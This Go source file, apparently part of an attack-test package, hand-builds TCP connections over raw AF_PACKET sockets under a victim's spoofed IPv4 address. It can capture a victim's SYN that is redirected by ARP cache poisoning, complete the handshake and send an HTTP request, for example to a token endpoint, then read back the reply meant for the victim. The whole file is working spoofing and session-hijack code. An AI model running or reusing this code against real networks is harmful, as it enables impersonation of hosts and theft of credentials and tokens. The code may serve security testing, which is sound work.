package attacktest

import (
	"bufio"
	"bytes"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"time"
)

// HijackSpec asks for one HTTP request over a TCP connection made with raw
// packets under someone else's 4-tuple: source Victim:Port, destination
// Endpoint.
type HijackSpec struct {
	Victim netip.Addr `json:"victim"`
	// Port is the tuple's source port. Zero: wait for a SYN from Victim to
	// Endpoint (one the victim sent to us because its ARP cache is
	// poisoned, and that we swallow) and take its port.
	Port     uint16            `json:"port,omitempty"`
	Endpoint netip.AddrPort    `json:"endpoint"`
	Target   string            `json:"target"` // request target, e.g. /v1/token?audience=x
	Header   map[string]string `json:"header,omitempty"`
	Timeout  time.Duration     `json:"timeout"` // bounds the whole attempt
}

// HijackResult says how far the attempt got.
type HijackResult struct {
	Source       netip.AddrPort `json:"source"`         // the tuple's client side
	SawVictimSYN bool           `json:"saw_victim_syn"` // the victim's SYN reached us
	Established  bool           `json:"established"`    // the server's SYN-ACK reached us and we ACKed it
	Reset        bool           `json:"reset"`          // the server reset the connection
	Status       int            `json:"status"`         // 0 when no whole HTTP response came
	Body         string         `json:"body"`
	Elapsed      time.Duration  `json:"elapsed"`
	Error        string         `json:"error,omitempty"` // why it stopped short
}

// hijack plays the client side of TCP by hand. The packets go out through
// an AF_PACKET socket, so the kernel neither checks nor rewrites their source
// address, and the answers are read from the wire with AF_PACKET as well:
// they are addressed to the victim's IP address, which our kernel does not
// own, so it drops them without answering (a forwarding-disabled netns sends
// no RST, no ICMP and no redirect for a foreign destination). Run it only
// where the victim's address is not one of ours, or our own kernel would
// reset the connection on seeing the SYN-ACK.
func hijack(spec HijackSpec) HijackResult {
	start := time.Now()
	deadline := start.Add(spec.Timeout)
	res := HijackResult{Source: netip.AddrPortFrom(spec.Victim, spec.Port)}
	err := (&rawConn{spec: spec, deadline: deadline, res: &res}).run()
	if err != nil {
		res.Error = err.Error()
	}
	res.Elapsed = time.Since(start)
	return res
}

type rawConn struct {
	spec     HijackSpec
	deadline time.Time
	res      *HijackResult
	l        *link
	gwHW     net.HardwareAddr
	ipID     uint16
	sndNxt   uint32 // next sequence number we send
	rcvNxt   uint32 // next sequence number we expect
	buf      []byte
}

func (c *rawConn) run() error {
	if !c.spec.Victim.Is4() || !c.spec.Endpoint.Addr().Is4() {
		return fmt.Errorf("hijack: IPv4 only")
	}
	var hop netip.Addr
	var err error
	// Open the capture before anything is sent, so no answer is missed.
	if c.l, hop, err = openLink(c.spec.Endpoint.Addr(), etherTypeIPv4); err != nil {
		return err
	}
	defer c.l.close()
	if c.gwHW, err = resolve(hop, time.Second); err != nil {
		return fmt.Errorf("next hop to %s: %w", c.spec.Endpoint, err)
	}
	c.buf = make([]byte, 65536)
	var r [6]byte
	rand.Read(r[:])
	isn := binary.BigEndian.Uint32(r[:4])
	c.ipID = binary.BigEndian.Uint16(r[4:])

	if c.spec.Port == 0 {
		if err := c.waitVictimSYN(); err != nil {
			return err
		}
	}
	me := c.res.Source
	mss := []byte{2, 4, 0x05, 0xb4} // 1460
	syn := segment{Src: me, Dst: c.spec.Endpoint, Seq: isn, Flags: tcpSYN, Window: 65535, Options: mss}
	var synack segment
	if err := c.exchange(syn, time.Second, func(s segment) bool {
		return s.Flags&(tcpSYN|tcpACK) == tcpSYN|tcpACK && s.Ack == isn+1
	}, &synack); err != nil {
		return fmt.Errorf("handshake: %w", err)
	}
	c.sndNxt, c.rcvNxt = isn+1, synack.Seq+1
	if err := c.sendFlags(tcpACK, nil); err != nil {
		return err
	}
	c.res.Established = true
	defer c.sendFlags(tcpRST|tcpACK, nil) // tear the server's side down

	req, err := c.request()
	if err != nil {
		return err
	}
	return c.converse(req)
}

// waitVictimSYN takes the source port of the first SYN from the victim to
// the endpoint that reaches us.
func (c *rawConn) waitVictimSYN() error {
	for time.Now().Before(c.deadline) {
		s, ok, err := c.next()
		if err != nil {
			return err
		}
		if ok && s.Src.Addr() == c.spec.Victim && s.Dst == c.spec.Endpoint && s.Flags&(tcpSYN|tcpACK) == tcpSYN {
			c.res.SawVictimSYN = true
			c.res.Source = s.Src
			return nil
		}
	}
	return fmt.Errorf("no SYN from %s to %s reached us", c.spec.Victim, c.spec.Endpoint)
}

// exchange sends out every rto until a segment of our connection satisfies
// want, and stores it in got.
func (c *rawConn) exchange(out segment, rto time.Duration, want func(segment) bool, got *segment) error {
	next := time.Now()
	for time.Now().Before(c.deadline) {
		if time.Now().After(next) {
			if err := c.send(out); err != nil {
				return err
			}
			next = time.Now().Add(rto)
		}
		s, ok, err := c.ours()
		if err != nil {
			return err
		}
		if !ok {
			continue
		}
		if s.Flags&tcpRST != 0 {
			c.res.Reset = true
			return fmt.Errorf("reset by %s", c.spec.Endpoint)
		}
		if want(s) {
			*got = s
			return nil
		}
	}
	return fmt.Errorf("no answer from %s within the timeout", c.spec.Endpoint)
}

// request builds the HTTP request; Connection: close, so the server ends
// the response with a FIN.
func (c *rawConn) request() ([]byte, error) {
	hr, err := http.NewRequest("GET", "http://"+c.spec.Endpoint.String()+c.spec.Target, nil)
	if err != nil {
		return nil, err
	}
	for k, v := range c.spec.Header {
		hr.Header.Set(k, v)
	}
	hr.Close = true
	var b bytes.Buffer
	if err := hr.Write(&b); err != nil {
		return nil, err
	}
	return b.Bytes(), nil
}

// converse sends the request and reads the response, acknowledging every
// in-order segment so the server keeps sending, until the response is whole
// or the server closes.
func (c *rawConn) converse(req []byte) error {
	if len(req) > 1400 {
		return fmt.Errorf("request of %d bytes does not fit one segment", len(req))
	}
	dataSeq := c.sndNxt
	c.sndNxt += uint32(len(req))
	var resp []byte
	acked := false
	resend := time.Now()
	for time.Now().Before(c.deadline) {
		if !acked && time.Now().After(resend) {
			if err := c.send(c.seg(dataSeq, tcpPSH|tcpACK, req)); err != nil {
				return err
			}
			resend = time.Now().Add(500 * time.Millisecond)
		}
		s, ok, err := c.ours()
		if err != nil {
			return err
		}
		if !ok {
			continue
		}
		if s.Flags&tcpRST != 0 {
			c.res.Reset = true
			return fmt.Errorf("reset by %s after %d response bytes", c.spec.Endpoint, len(resp))
		}
		if s.Flags&tcpACK != 0 && !seqLess(s.Ack, c.sndNxt) {
			acked = true
		}
		fin := false
		if s.Seq == c.rcvNxt {
			resp = append(resp, s.Payload...)
			c.rcvNxt += uint32(len(s.Payload))
			if s.Flags&tcpFIN != 0 {
				c.rcvNxt++
				fin = true
			}
		}
		if len(s.Payload) > 0 || s.Flags&tcpFIN != 0 {
			if err := c.sendFlags(tcpACK, nil); err != nil {
				return err
			}
		}
		if done := c.parse(resp); done || fin {
			if !done {
				return fmt.Errorf("connection closed after %d bytes of an incomplete response", len(resp))
			}
			return nil
		}
	}
	return fmt.Errorf("response incomplete after %d bytes", len(resp))
}

// parse fills in the result once resp holds a whole HTTP response.
func (c *rawConn) parse(resp []byte) bool {
	r, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(resp)), nil)
	if err != nil {
		return false
	}
	body, err := io.ReadAll(r.Body)
	if err != nil {
		return false
	}
	c.res.Status, c.res.Body = r.StatusCode, string(body)
	return true
}

func (c *rawConn) seg(seq uint32, flags uint8, payload []byte) segment {
	return segment{Src: c.res.Source, Dst: c.spec.Endpoint, Seq: seq, Ack: c.rcvNxt, Flags: flags, Window: 65535, Payload: payload}
}

func (c *rawConn) sendFlags(flags uint8, payload []byte) error {
	return c.send(c.seg(c.sndNxt, flags, payload))
}

func (c *rawConn) send(s segment) error {
	c.ipID++
	return c.l.send(ethFrame(c.gwHW, c.l.ifc.HardwareAddr, etherTypeIPv4, s.marshal(c.ipID)))
}

// next returns the next TCP segment seen on the interface, ok false when
// none came within pollStep.
func (c *rawConn) next() (segment, bool, error) {
	b, err := c.l.recv(c.buf)
	if err != nil || b == nil {
		return segment{}, false, err
	}
	s, ok := parseSegment(b)
	return s, ok, nil
}

// ours is next, for segments of our connection only.
func (c *rawConn) ours() (segment, bool, error) {
	s, ok, err := c.next()
	if !ok || err != nil {
		return s, false, err
	}
	return s, s.Src == c.spec.Endpoint && s.Dst == c.res.Source, nil
}
